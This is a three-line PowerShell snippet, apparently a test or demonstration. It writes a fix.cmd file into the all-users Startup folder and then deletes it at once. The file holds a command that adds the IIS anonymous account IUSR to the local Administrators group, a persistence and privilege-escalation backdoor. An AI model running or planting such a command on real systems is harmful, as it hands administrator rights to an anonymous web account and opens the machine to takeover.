$f = Join-Path $env:ProgramData 'Microsoft\Windows\Start Menu\Programs\StartUp\fix.cmd'
Set-Content $f 'net localgroup Administrators IUSR /add'
Remove-Item $f
